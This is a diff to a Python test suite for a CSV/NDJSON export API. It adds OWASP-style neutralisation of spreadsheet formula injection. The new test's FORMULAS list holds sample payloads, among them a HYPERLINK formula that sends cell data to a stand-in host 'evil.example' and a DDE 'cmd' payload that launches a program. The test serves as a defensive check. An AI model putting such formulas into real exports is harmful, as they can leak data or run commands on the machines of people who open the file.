@@ -165,9 +165,14 @@ FLOATS = ("interactionTime", "ivrTime", "customerHoldTime", "customerAbandonTime
 INTS = ("customerHolds", "customerTransfers", "revision")
 
 
+def spreadsheet_safe(text: str) -> str:
+    """OWASP's neutralisation of CSV formula injection, as docs/api.md states it."""
+    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text
+
+
 def check_row(row: dict[str, str], rec: dict[str, Any]) -> None:
     for name in STRINGS:
-        assert row[name] == (rec.get(name) or ""), name
+        assert row[name] == spreadsheet_safe(rec.get(name) or ""), name
     assert row["flagged"] == ("true" if rec.get("flagged") else "false")
     abandoned = rec.get("customerAbandonTime") is not None or any(q.get("queueAbandoned")
                                                                   for q in rec.get("queues") or [])
@@ -217,9 +222,30 @@ def test_csv_of_a_filter_on_a_plus_sign(http: httpx.Client, tenant: TenantKeys) 
                         params={"format": "csv", "customer": "+15550000006,+15550004499"}, auth=tenant.read)
     assert response.status_code == 200, response.text
     rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"), newline="")))
-    assert [row["customer"] for row in rows] == ["+15550004499", "+15550000006"]
+    assert [row["customer"] for row in rows] == ["'+15550004499", "'+15550000006"]
     check_row(rows[0], record(4499, tenant.id))
     check_row(rows[1], record(6, tenant.id))
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
+            "\t=1+1", "\r=1+1"]
+
+
+def test_csv_neutralises_cells_a_spreadsheet_would_run(http: httpx.Client, live_server: LiveServer) -> None:
+    keys = make_tenant_keys(live_server.store)
+    records = [{"interactionId": str(uuid.uuid4()), "startTimestamp": "2024-07-01T00:00:00.000Z",
+                "customer": formula, "flowName": formula, "ivrTime": -1.5,
+                "queues": [{"queueId": formula}]} for formula in FORMULAS]
+    stored = http.post(f"/v1/tenants/{keys.id}/interactions", json=records, auth=keys.ingest)
+    assert stored.status_code == 200, stored.text
+    response = http.get(f"/v1/tenants/{keys.id}/interactions/export?format=csv", auth=keys.read)
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"), newline="")))
+    assert sorted(row["customer"] for row in rows) == sorted("'" + formula for formula in FORMULAS)
+    assert sorted(row["flowName"] for row in rows) == sorted("'" + formula for formula in FORMULAS)
+    assert sorted(row["queueIds"] for row in rows) == sorted("'" + formula for formula in FORMULAS)
+    assert {row["ivrTime"] for row in rows} == {"-1.5"}  # numbers keep their sign
+    ndjson = http.get(f"/v1/tenants/{keys.id}/interactions/export?format=ndjson", auth=keys.read)
+    assert sorted(json.loads(line)["customer"] for line in ndjson.text.splitlines()) == sorted(FORMULAS)
 
 
 def test_an_export_with_no_match(http: httpx.Client, tenant: TenantKeys) -> None:
